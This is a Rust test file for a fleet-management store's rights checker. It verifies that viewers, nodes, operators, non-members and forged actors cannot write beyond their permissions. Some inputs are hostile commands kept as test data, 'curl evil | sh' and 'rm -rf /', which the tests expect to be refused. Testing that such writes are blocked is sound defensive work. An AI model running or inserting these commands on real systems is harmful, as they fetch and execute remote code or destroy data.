//! Who may write what, judged on changes from elsewhere: real documents
//! (an admin's, and replicas enrolled with other roles), changes made by
//! going around the operations API (as a modified client would), judged
//! against the admin's document as of each change's dependencies.

use std::collections::BTreeMap;
use std::path::Path;

use automerge::transaction::Transactable;
use automerge::{ActorId, AutoCommit, Change, ChangeHash, ObjType, ReadDoc};
use fleetdeck_store::config::ConfigPath;
use fleetdeck_store::document::{CommandResult, FleetDoc, LayerRef, NodeRecord, SiteRecord};
use fleetdeck_store::health::{DiskUsage, HealthRegister, Metrics};
use fleetdeck_store::ops::{self, CommandTarget, ConfigEdit, Op, RolloutAction, RolloutPlan};
use fleetdeck_store::replica::{SignedChange, load_or_create_identity};
use fleetdeck_store::rights::{self, MAX_CHANGE_BYTES, MAX_VALUE_BYTES, Refusal};
use fleetdeck_store::{MemberKey, NodeId, Replica, Role, SiteId, now_ms};
use serde_json::{Value, json};

fn site_rec(name: &str) -> SiteRecord {
    SiteRecord {
        name: name.into(),
        lat: None,
        lon: None,
        zone: None,
    }
}

fn node(id: &str) -> NodeId {
    NodeId::parse(id).unwrap()
}

fn path(key: &str) -> ConfigPath {
    ConfigPath::parse(key).unwrap()
}

fn set(layer: LayerRef, key: &str, v: Value) -> Op {
    Op::Config {
        layer,
        edits: vec![ConfigEdit::Set(path(key), v)],
        message: None,
    }
}

/// An admin's replica with site BL-LAB-1 and nodes cam-1, cam-2, and a
/// second replica (in `other`) enrolled by it with `role`.
fn pair(dir: &Path, other: &Path, role: Role) -> (Replica, Replica) {
    let mut admin = Replica::init(dir, "ops", "blocao").unwrap();
    let now = now_ms();
    ops::apply(
        &mut admin,
        Op::SiteAdd {
            sites: vec![(SiteId::parse("BL-LAB-1").unwrap(), site_rec("lab"))],
        },
        now,
    )
    .unwrap();
    let rec = NodeRecord {
        site: "BL-LAB-1".into(),
        role: None,
    };
    ops::apply(
        &mut admin,
        Op::NodeAdd {
            nodes: vec![(node("cam-1"), rec.clone()), (node("cam-2"), rec)],
        },
        now,
    )
    .unwrap();
    let key = load_or_create_identity(other).unwrap().key().clone();
    ops::apply(
        &mut admin,
        Op::MemberAdd {
            key,
            name: "them".into(),
            role,
        },
        now,
    )
    .unwrap();
    let them = Replica::init_from_changes(other, admin.changes_after(&[])).unwrap();
    (admin, them)
}

/// The one change `r` made since `before`.
fn made_since(r: &mut Replica, before: &[ChangeHash]) -> SignedChange {
    let mut changes = r.changes_after(before);
    assert_eq!(changes.len(), 1, "expected one change");
    changes.pop().unwrap()
}

/// Makes a change on `r` with `edit` (no rights checked: a modified
/// client), keeps it, and returns it.
fn kept(
    r: &mut Replica,
    edit: impl FnOnce(&mut FleetDoc) -> fleetdeck_store::Result<()>,
) -> SignedChange {
    let before = r.heads();
    r.change("raw", |d, _| edit(d)).unwrap();
    made_since(r, &before)
}

/// The change `edit` makes (no rights checked) on a copy of `r`'s
/// document, by `r`'s actor: `r` stays as it was, so the next change does
/// not depend on this one.
fn raw(
    r: &mut Replica,
    edit: impl FnOnce(&mut FleetDoc) -> fleetdeck_store::Result<()>,
) -> SignedChange {
    let copy = r.doc_mut().automerge().clone();
    let mut doc = FleetDoc::from_automerge(copy).unwrap();
    edit(&mut doc).unwrap();
    doc.commit("raw", now_ms())
        .expect("the edit changed something");
    unsigned(doc.automerge_mut().get_last_local_change().unwrap())
}

/// The object at `path` (map keys from the root) in `doc`.
fn obj(doc: &AutoCommit, path: &[&str]) -> automerge::ObjId {
    let mut o = automerge::ROOT;
    for k in path {
        o = match doc.get(&o, *k).unwrap() {
            Some((automerge::Value::Object(_), id)) => id,
            other => panic!("no object at {k}: {other:?}"),
        };
    }
    o
}

/// Puts `value` at `path` (its last element the key) with no checks.
fn raw_put(r: &mut Replica, path: &[&str], value: &str) -> SignedChange {
    let (at, key) = path.split_at(path.len() - 1);
    raw(r, |d| {
        let o = obj(d.automerge(), at);
        d.automerge_mut().put(&o, key[0], value)?;
        Ok(())
    })
}

fn judge(against: &mut Replica, c: &SignedChange) -> Result<(), Refusal> {
    rights::judge(against.doc_mut().automerge(), &c.change)
}

fn refused(against: &mut Replica, c: &SignedChange) -> String {
    match judge(against, c) {
        Err(r) => {
            assert_eq!(r.change, c.change.hash());
            assert!(
                !r.rule.contains("cannot be judged"),
                "refused for want of deps, not by a rule: {}",
                r.rule
            );
            r.rule
        }
        Ok(()) => panic!("expected a refusal"),
    }
}

/// Brings `to` up to `from` (both ways of syncing are out of scope here).
fn sync(from: &mut Replica, to: &mut Replica) {
    let heads = to.heads();
    let changes = from.changes_after(&heads);
    to.apply_changes(changes).unwrap();
}

/// A change made by hand (its signature does not matter to the judge).
fn unsigned(change: Change) -> SignedChange {
    SignedChange { change, sig: None }
}

fn result() -> CommandResult {
    CommandResult {
        exit_code: Some(0),
        ok: true,
        output: "done".into(),
        at_ms: now_ms(),
    }
}

#[test]
fn a_viewer_writes_nothing_but_its_own_addrs() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut them) = pair(a.path(), b.path(), Role::Viewer);
    let c = raw(&mut them, |d| {
        d.set_config(&LayerRef::Fleet, &path("retention.days"), &json!(7))
    });
    assert_eq!(
        refused(&mut admin, &c),
        "them is a viewer: fleet retention.days takes an operator or an admin"
    );
    let c = raw(&mut them, |d| {
        d.set_config(
            &LayerRef::Site(SiteId::parse("BL-LAB-1").unwrap()),
            &path("apply.check"),
            &json!("true"),
        )
    });
    let why = refused(&mut admin, &c);
    assert!(
        why.starts_with("them is a viewer: site BL-LAB-1 apply.check makes nodes run a program"),
        "{why}"
    );
    let c = raw(&mut them, |d| {
        d.add_site(&SiteId::parse("X").unwrap(), &site_rec("x"))
    });
    assert!(refused(&mut admin, &c).contains("sites X takes an operator or an admin"));

    let me = them.key().clone();
    let c = kept(&mut them, |d| {
        d.set_member_addrs(&me, &["10.0.0.1:7000".into(), "[::1]:7000".into()])
    });
    judge(&mut admin, &c).expect("its own addrs");
    // The list exists now: changing it edits the list's elements.
    let c = kept(&mut them, |d| {
        d.set_member_addrs(&me, &["10.0.0.2:7000".into()])
    });
    judge(&mut admin, &c).expect_err("judged at deps the admin does not hold");
    sync(&mut them, &mut admin);
    let c = raw(&mut them, |d| {
        d.set_member_addrs(&me, &["10.0.0.3:7000".into()])
    });
    judge(&mut admin, &c).expect("its own addrs, edited");

    // Another member's addrs, or its own role: no.
    let admin_key = admin.key().clone();
    let c = raw(&mut them, |d| {
        d.set_member_addrs(&admin_key, &["1.2.3.4:1".into()])
    });
    assert!(refused(&mut admin, &c).contains("changes the fleet's members: only admins do that"),);
    let c = raw_put(&mut them, &["members", me.as_str(), "role"], "admin");
    let why = refused(&mut admin, &c);
    assert!(
        why.contains("a member writes only its own addrs and wg there"),
        "{why}"
    );

    // Its own WireGuard key: yes; another member's: no.
    sync(&mut admin, &mut them);
    let c = raw(&mut them, |d| d.set_member_wg(&me, &[3u8; 32]));
    judge(&mut admin, &c).expect("its own WireGuard key");
    let c = raw(&mut them, |d| d.set_member_wg(&admin_key, &[4u8; 32]));
    assert!(refused(&mut admin, &c).contains("changes the fleet's members: only admins do that"));

    // Its own fields in another shape than every replica reads (a number
    // for wg, a map for addrs, a map in the list): refused, or the record
    // would fail to load everywhere and the member hide from revocation.
    let shape = "addrs is a list of IP:PORT texts and wg a WireGuard key as text";
    let c = raw(&mut them, |d| {
        let o = obj(d.automerge(), &["members", me.as_str()]);
        d.automerge_mut().put(&o, "wg", 1i64)?;
        Ok(())
    });
    assert!(refused(&mut admin, &c).contains(shape));
    let c = raw(&mut them, |d| {
        let o = obj(d.automerge(), &["members", me.as_str()]);
        d.automerge_mut()
            .put_object(&o, "addrs", automerge::ObjType::Map)?;
        Ok(())
    });
    assert!(refused(&mut admin, &c).contains(shape));
    let c = raw(&mut them, |d| {
        let o = obj(d.automerge(), &["members", me.as_str(), "addrs"]);
        d.automerge_mut()
            .insert_object(&o, 0, automerge::ObjType::Map)?;
        Ok(())
    });
    assert!(refused(&mut admin, &c).contains(shape));
    let c = raw_put(&mut them, &["members", me.as_str(), "wg"], &"x".repeat(200));
    assert!(refused(&mut admin, &c).contains(shape));
}

#[test]
fn a_node_writes_its_binding_addrs_results_and_halts_only() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut them) = pair(a.path(), b.path(), Role::Node);
    let me = them.key().clone();

    // The program key that would run anything on every node.
    let c = raw(&mut them, |d| {
        d.set_config(
            &LayerRef::Fleet,
            &path("apply.check"),
            &json!("curl evil | sh"),
        )
    });
    assert_eq!(
        refused(&mut admin, &c),
        "them is a node: fleet apply.check makes nodes run a program: only admins write it"
    );

    // The daemon's binding of an unbound node.
    let bind = kept(&mut them, |d| d.bind_node(&node("cam-1"), &me));
    judge(&mut admin, &bind).expect("binding an unbound node to itself");
    sync(&mut them, &mut admin);
    // Another key, or another field of the record: no.
    let c = raw_put(&mut them, &["nodes", "cam-1", "key"], admin.key().as_str());
    assert!(refused(&mut admin, &c).contains("a node writes there only its own binding"));
    let c = raw_put(&mut them, &["nodes", "cam-1", "site"], "BL-LAB-9");
    assert!(refused(&mut admin, &c).contains("nodes cam-1 site is a node record"));
    let c = raw(&mut them, |d| d.unbind_node(&node("cam-1")));
    refused(&mut admin, &c);
    let c = raw(&mut them, |d| d.remove_node(&node("cam-2")));
    refused(&mut admin, &c);

    // Its own addrs, its own node's command result, a halt.
    let c = raw(&mut them, |d| {
        d.set_member_addrs(&me, &["10.0.0.9:7000".into()])
    });
    judge(&mut admin, &c).expect("its own addrs");
    let c = raw(&mut them, |d| {
        d.put_command_result("c1", &node("cam-1"), &result())
    });
    judge(&mut admin, &c).expect("its own node's result");
    let c = kept(&mut them, |d| {
        d.rollout_event("r1", "halt", now_ms(), Some("3 failed"))
    });
    judge(&mut admin, &c).expect("a halt");
    sync(&mut them, &mut admin);

    // Another node's result; other rollout events; deleting a halt.
    let c = raw(&mut them, |d| {
        d.put_command_result("c1", &node("cam-2"), &result())
    });
    assert_eq!(
        refused(&mut admin, &c),
        "them is a node: command_results c1/cam-2 is not the result of a node bound to its key: a node writes only its own results"
    );
    for event in ["open/0", "pause", "resume", "abort"] {
        let c = raw(&mut them, |d| d.rollout_event("r1", event, now_ms(), None));
        let why = refused(&mut admin, &c);
        assert!(
            why.contains("a node only halts a rollout"),
            "{event}: {why}"
        );
    }
    sync(&mut them, &mut admin);
    let c = raw(&mut them, |d| {
        let o = obj(d.automerge(), &["rollout_events"]);
        d.automerge_mut().delete(&o, "r1/halt")?;
        Ok(())
    });
    refused(&mut admin, &c);

    // Its own member record beyond addrs: no.
    let c = raw_put(&mut them, &["members", me.as_str(), "role"], "admin");
    assert!(refused(&mut admin, &c).starts_with("them is a node: members "));
}

#[test]
fn a_node_does_not_take_a_node_bound_to_another_replica() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut them) = pair(a.path(), b.path(), Role::Node);
    let admin_key = admin.key().clone();
    admin
        .change("bind", |d, _| d.bind_node(&node("cam-2"), &admin_key))
        .unwrap();
    sync(&mut admin, &mut them);
    let me = them.key().clone();
    // `bind_node` itself refuses; a modified client writes the key anyway.
    let c = raw_put(&mut them, &["nodes", "cam-2", "key"], me.as_str());
    let why = refused(&mut admin, &c);
    assert!(
        why.contains("rebinds node cam-2, which is bound to replica"),
        "{why}"
    );
    // Results for it are not its own either.
    let c = raw(&mut them, |d| {
        d.put_command_result("c1", &node("cam-2"), &result())
    });
    refused(&mut admin, &c);
}

#[test]
fn an_operator_writes_program_keys_only_where_an_admin_allowed_it_at_the_deps() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut op) = pair(a.path(), b.path(), Role::Operator);
    let check =
        |d: &mut FleetDoc| d.set_config(&LayerRef::Fleet, &path("apply.check"), &json!("true"));
    let early = raw(&mut op, check);
    let why = refused(&mut admin, &early);
    assert!(
        why.starts_with("them is an operator: fleet apply.check makes nodes run a program: only admins write it (or operators, once an admin sets trust.operators_run_programs = true"),
        "{why}"
    );

    ops::apply(
        &mut admin,
        set(LayerRef::Fleet, ops::OPERATORS_RUN_PROGRAMS, json!(true)),
        now_ms(),
    )
    .unwrap();
    sync(&mut admin, &mut op);
    let late = raw(&mut op, check);
    judge(&mut admin, &late).expect("allowed as of its deps");
    // The early change is judged at its own deps, which predate the
    // admin's setting, whatever the judging document holds since.
    refused(&mut admin, &early);
    // The same for a rollout that sets the key.
    let plan = RolloutPlan {
        set: BTreeMap::from([("apply.reload".to_string(), json!("systemctl reload x"))]),
        sites: Vec::new(),
        waves: vec![100],
        soak_ms: 1000,
        max_fail: 0,
    };
    let before = op.heads();
    ops::apply(
        &mut op,
        Op::RolloutStart {
            id: Some("r1".into()),
            plan,
        },
        now_ms(),
    )
    .unwrap();
    let c = made_since(&mut op, &before);
    judge(&mut admin, &c).expect("a rollout of a program key, allowed");
    sync(&mut op, &mut admin);

    // Keys that decide who may do what stay with admins.
    let c = raw(&mut op, |d| {
        d.set_config(
            &LayerRef::Fleet,
            &path(ops::OPERATORS_RUN_PROGRAMS),
            &json!(false),
        )
    });
    let why = refused(&mut admin, &c);
    assert!(why.contains("decides who may do what"), "{why}");
}

#[test]
fn an_operators_rollout_of_a_program_key_is_refused_without_the_admins_leave() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut op) = pair(a.path(), b.path(), Role::Operator);
    let spec = fleetdeck_store::rollout::RolloutSpec {
        set: BTreeMap::from([("actions.wipe".to_string(), json!({"cmd": "rm -rf /"}))]),
        sites: Vec::new(),
        waves: vec![100],
        soak_ms: 0,
        max_fail: 0,
        by: "them".into(),
        at_ms: now_ms(),
    };
    let c = raw(&mut op, |d| d.add_rollout("r9", &spec));
    let why = refused(&mut admin, &c);
    assert!(
        why.contains("rollouts r9 sets actions.wipe, which makes nodes run a program"),
        "{why}"
    );
}

#[test]
fn an_operator_does_not_touch_members_or_meta() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut op) = pair(a.path(), b.path(), Role::Operator);
    let stranger = MemberKey::parse(&"ab".repeat(32)).unwrap();
    let c = raw(&mut op, |d| {
        d.put_member(&stranger, "pal", Role::Admin, now_ms())
    });
    assert_eq!(
        refused(&mut admin, &c),
        "them is an operator: members abababab… changes the fleet's members: only admins do that"
    );
    let me = op.key().clone();
    let c = raw(&mut op, |d| {
        d.put_member(&me, "them", Role::Admin, now_ms())
    });
    refused(&mut admin, &c);
    let admin_key = admin.key().clone();
    let c = raw_put(&mut op, &["members", admin_key.as_str(), "role"], "viewer");
    refused(&mut admin, &c);
    let c = raw_put(&mut op, &["meta", "name"], "mine");
    assert!(refused(&mut admin, &c).contains("meta name is the fleet's identity"));
    // The root and maps this fleet does not know: admins only.
    let c = raw(&mut op, |d| {
        d.automerge_mut()
            .put_object(automerge::ROOT, "backdoor", ObjType::Map)?;
        Ok(())
    });
    refused(&mut admin, &c);
    let c = raw(&mut op, |d| {
        d.automerge_mut()
            .put_object(automerge::ROOT, "nodes", ObjType::Map)?;
        Ok(())
    });
    refused(&mut admin, &c);
    // Command results are the nodes' own.
    let c = raw(&mut op, |d| {
        d.put_command_result("c1", &node("cam-1"), &result())
    });
    refused(&mut admin, &c);
}

#[test]
fn a_non_member_writes_nothing() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let mut admin = Replica::init(a.path(), "ops", "blocao").unwrap();
    let mut outsider = Replica::init_from_changes(b.path(), admin.changes_after(&[])).unwrap();
    let c = raw(&mut outsider, |d| {
        d.set_config(&LayerRef::Fleet, &path("retention.days"), &json!(7))
    });
    let why = refused(&mut admin, &c);
    assert!(why.contains("is not a member of this fleet"), "{why}");
    assert_eq!(
        judge(&mut admin, &c).unwrap_err().author,
        outsider.key().as_str()
    );

    // A hand-made change whose actor id claims no member's key.
    let mut doc = admin.doc_mut().automerge().clone();
    doc.set_actor(ActorId::from(vec![7u8; 48]));
    let fleet = obj(&doc, &["fleet"]);
    doc.put(&fleet, "retention.days", "7").unwrap();
    doc.commit();
    let forged = unsigned(doc.get_last_local_change().unwrap());
    let why = refused(&mut admin, &forged);
    assert!(why.starts_with("07070707 is not a member"), "{why}");
    // An actor id too short to hold a key.
    let mut doc = admin.doc_mut().automerge().clone();
    doc.set_actor(ActorId::from(vec![1u8; 4]));
    let fleet = obj(&doc, &["fleet"]);
    doc.put(&fleet, "x", "1").unwrap();
    doc.commit();
    refused(&mut admin, &unsigned(doc.get_last_local_change().unwrap()));
}

#[test]
fn sizes_over_the_limits_are_refused_whoever_writes() {
    let dir = tempfile::tempdir().unwrap();
    let mut admin = Replica::init(dir.path(), "ops", "blocao").unwrap();
    let big = "a".repeat(MAX_VALUE_BYTES + 1);
    let c = raw_put(&mut admin, &["fleet", "motd"], &big);
    let why = refused(&mut admin, &c);
    assert!(
        why.contains("MAX_VALUE_BYTES") && why.contains("at 'motd'"),
        "{why}"
    );

    let fits = "b".repeat(MAX_VALUE_BYTES - 16);
    let c = raw(&mut admin, |d| {
        let o = obj(d.automerge(), &["fleet"]);
        for i in 0..(MAX_CHANGE_BYTES / MAX_VALUE_BYTES + 1) {
            d.automerge_mut()
                .put(&o, format!("motd{i}"), fits.as_str())?;
        }
        Ok(())
    });
    assert!(c.change.raw_bytes().len() > MAX_CHANGE_BYTES);
    assert!(refused(&mut admin, &c).contains("MAX_CHANGE_BYTES"));

    let c = raw_put(&mut admin, &["fleet", "motd"], &fits);
    judge(&mut admin, &c).expect("a value within the limit");
}

#[test]
fn every_change_the_operations_api_makes_within_rights_is_accepted() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut op) = pair(a.path(), b.path(), Role::Operator);
    let genesis = admin.changes_after(&[]).remove(0);
    assert!(genesis.change.deps().is_empty());
    judge(&mut admin, &genesis).expect("the genesis");
    rights::judge(&AutoCommit::new(), &genesis.change).expect("the genesis, on an empty document");
    // What `pair` did as the admin.
    for c in admin.changes_after(&[]) {
        judge(&mut admin, &c).expect("the admin's setup");
    }
    ops::apply(
        &mut admin,
        set(
            LayerRef::Fleet,
            "actions.reboot",
            json!({"cmd": "true", "timeout_s": 5}),
        ),
        now_ms(),
    )
    .unwrap();
    sync(&mut admin, &mut op);
    let op_start = op.heads();

    let site = SiteId::parse("BL-LAB-2").unwrap();
    let script = |who: &str| -> Vec<Op> {
        let n = node(&format!("{who}-n1"));
        let s = SiteId::parse(&format!("{who}-S")).unwrap();
        vec![
            Op::SiteAdd {
                sites: vec![
                    (s.clone(), site_rec("s")),
                    (SiteId::parse(&format!("{who}-T")).unwrap(), site_rec("t")),
                ],
            },
            Op::NodeAdd {
                nodes: vec![(
                    n.clone(),
                    NodeRecord {
                        site: s.to_string(),
                        role: Some("edge".into()),
                    },
                )],
            },
            Op::NodeResume { node: n.clone() },
            set(LayerRef::Fleet, "retention.days", json!(9)),
            set(LayerRef::Site(s.clone()), "alerts.disk_pct", json!(80)),
            set(LayerRef::Node(n.clone()), "heartbeat.interval_s", json!(20)),
            Op::Config {
                layer: LayerRef::Site(s.clone()),
                edits: vec![ConfigEdit::Unset(path("alerts.disk_pct"))],
                message: Some("undo".into()),
            },
            Op::Freeze {
                message: "hold".into(),
            },
            Op::Unfreeze {
                message: "go".into(),
            },
            Op::RolloutStart {
                id: Some(format!("{who}-r")),
                plan: RolloutPlan {
                    set: BTreeMap::from([("retention.days".to_string(), json!(3))]),
                    sites: vec![s.clone()],
                    waves: vec![50, 100],
                    soak_ms: 1000,
                    max_fail: 1,
                },
            },
            Op::Rollout {
                id: format!("{who}-r"),
                action: RolloutAction::Pause,
            },
            Op::Rollout {
                id: format!("{who}-r"),
                action: RolloutAction::Resume,
            },
            Op::Rollout {
                id: format!("{who}-r"),
                action: RolloutAction::Abort,
            },
            Op::CommandRun {
                id: Some(format!("{who}-c")),
                action: "reboot".into(),
                target: CommandTarget::Node(n.clone()),
            },
            Op::NodeUnbind { node: n.clone() },
            Op::NodeRm { node: n },
            Op::SiteRm {
                site: s,
                with_nodes: true,
            },
        ]
    };
    let mut judged = 0;
    for (r, who) in [(&mut admin, "adm"), (&mut op, "opr")] {
        let mut ops_list = script(who);
        if who == "adm" {
            ops_list.push(Op::MemberAdd {
                key: MemberKey::parse(&"cd".repeat(32)).unwrap(),
                name: "new".into(),
                role: Role::Viewer,
            });
            ops_list.push(Op::SiteAdd {
                sites: vec![(site.clone(), site_rec("two"))],
            });
        }
        // Bind first so that unbinding writes something.
        let me = r.key().clone();
        let n = node(&format!("{who}-n1"));
        for o in ops_list {
            let name = o.name();
            if matches!(o, Op::NodeUnbind { .. }) {
                r.change("bind", |d, _| d.bind_node(&n, &me)).unwrap();
            }
            let before = r.heads();
            let done = ops::apply(r, o, now_ms()).unwrap_or_else(|e| panic!("{who} {name}: {e}"));
            assert!(done.change.is_some(), "{who} {name} wrote nothing");
            for c in r.changes_after(&before) {
                rights::judge(r.doc_mut().automerge(), &c.change)
                    .unwrap_or_else(|e| panic!("{who} {name}: {e}"));
                judged += 1;
            }
        }
        // A revert of its own plain edit, and an ack of an open alert.
        let before = r.heads();
        let done = ops::apply(
            r,
            set(LayerRef::Fleet, "retention.days", json!(11)),
            now_ms(),
        )
        .unwrap();
        let id = done.change.unwrap().to_string();
        ops::apply(
            r,
            Op::Revert {
                change_id: id,
                message: None,
            },
            now_ms(),
        )
        .unwrap();
        let reg = HealthRegister {
            node: "cam-1".into(),
            seq: 1,
            time_ms: now_ms(),
            metrics: Metrics {
                disks: vec![DiskUsage {
                    mount: "/data".into(),
                    used_pct: 99.0,
                }],
                ..Default::default()
            },
            ..Default::default()
        };
        r.record_health(&reg).unwrap();
        let alert = r.alerts(now_ms()).into_iter().next();
        assert!(alert.is_some(), "an open alert to ack");
        if let Some(alert) = alert {
            ops::apply(
                r,
                Op::Ack {
                    alert_id: alert.id.clone(),
                },
                now_ms(),
            )
            .unwrap();
            ops::apply(
                r,
                Op::Silence {
                    alert_id: alert.id,
                    for_ms: 60_000,
                },
                now_ms(),
            )
            .unwrap();
        }
        for c in r.changes_after(&before) {
            rights::judge(r.doc_mut().automerge(), &c.change)
                .unwrap_or_else(|e| panic!("{who}: {e}"));
            judged += 1;
        }
    }
    assert!(judged >= 38, "judged {judged}");
    // The operator's changes again, as the admin gets them: in causal
    // order, each judged against a document holding what came before it.
    for c in op.changes_after(&op_start) {
        judge(&mut admin, &c).unwrap_or_else(|e| panic!("at the admin: {e}"));
        admin.apply_changes(vec![c]).unwrap();
    }
}

#[test]
fn a_change_without_dependencies_is_only_a_genesis() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let mut admin = Replica::init(a.path(), "ops", "blocao").unwrap();
    // Another fleet's genesis is a genesis too: which one a replica
    // accepts is the caller's decision (its fleet id).
    let mut other = Replica::init(b.path(), "x", "other").unwrap();
    let theirs = other.changes_after(&[]).remove(0);
    judge(&mut admin, &theirs).expect("a well-formed genesis");

    // No deps, but not a genesis: a site out of nowhere.
    let mut doc = AutoCommit::new().with_actor(ActorId::from(admin.key().to_bytes().to_vec()));
    let sites = doc
        .put_object(automerge::ROOT, "sites", ObjType::Map)
        .unwrap();
    let s = doc.put_object(&sites, "X", ObjType::Map).unwrap();
    doc.put(&s, "name", "x").unwrap();
    doc.commit();
    let c = unsigned(doc.get_last_local_change().unwrap());
    let why = refused(&mut admin, &c);
    assert!(
        why.starts_with("a change with no dependencies must be a fleet's genesis"),
        "{why}"
    );

    // A genesis that enrolls someone else as admin.
    let me = MemberKey::parse(&"ef".repeat(32)).unwrap();
    let stranger = MemberKey::parse(&"12".repeat(32)).unwrap();
    let actor = ActorId::from(me.to_bytes().to_vec());
    let mut fd = FleetDoc::genesis(actor, "f", "n", &stranger, "s", now_ms()).unwrap();
    let c = unsigned(fd.automerge_mut().get_changes(&[]).remove(0));
    refused(&mut admin, &c);
    // The same by the enrolled key itself is fine.
    let actor = ActorId::from(stranger.to_bytes().to_vec());
    let mut fd = FleetDoc::genesis(actor, "f", "n", &stranger, "s", now_ms()).unwrap();
    let c = unsigned(fd.automerge_mut().get_changes(&[]).remove(0));
    judge(&mut admin, &c).expect("a genesis by its admin");
}

#[test]
fn a_change_whose_deps_are_missing_is_not_judged() {
    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (mut admin, mut op) = pair(a.path(), b.path(), Role::Operator);
    let first = kept(&mut op, |d| {
        d.set_config(&LayerRef::Fleet, &path("retention.days"), &json!(7))
    });
    let second = kept(&mut op, |d| {
        d.set_config(&LayerRef::Fleet, &path("retention.days"), &json!(8))
    });
    let doc = admin.doc_mut().automerge();
    assert_eq!(
        rights::missing_deps(doc, &second.change),
        vec![first.change.hash()]
    );
    assert!(rights::missing_deps(doc, &first.change).is_empty());
    let why = judge(&mut admin, &second).unwrap_err().rule;
    assert!(
        why.contains("cannot be judged before that arrives"),
        "{why}"
    );
    // In order, each against a document holding its admitted deps.
    judge(&mut admin, &first).unwrap();
    admin.apply_changes(vec![first]).unwrap();
    judge(&mut admin, &second).unwrap();
}
